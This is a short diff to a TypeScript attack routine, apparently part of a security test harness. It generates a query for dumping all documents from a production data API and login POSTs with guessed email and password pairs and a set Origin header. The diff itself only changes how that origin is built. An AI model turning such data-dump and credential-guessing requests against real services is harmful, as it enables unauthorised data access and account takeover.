@@ -30,8 +30,10 @@ export function attackOn({ siteUrl, lakeUrl }: Targets): readonly Act[] {
   const everything = (n: number) => `${api(lakeUrl)}/query/production?query=${encodeURIComponent(`*[_id != "x${n}"]`)}`;
   const guess = (n: number) => {
     const type = 'application/x-www-form-urlencoded';
+    // Said to be encrypted: in clear nothing is done for it.
+    const origin = `https://${new URL(siteUrl).host}`;
     return [
-      { method: 'POST', headers: { 'content-type': type, origin: new URL(siteUrl).origin } },
+      { method: 'POST', headers: { 'content-type': type, origin } },
       `email=pessoa${n}%40clinica.local&password=senha${n}`,
     ] as const;
   };
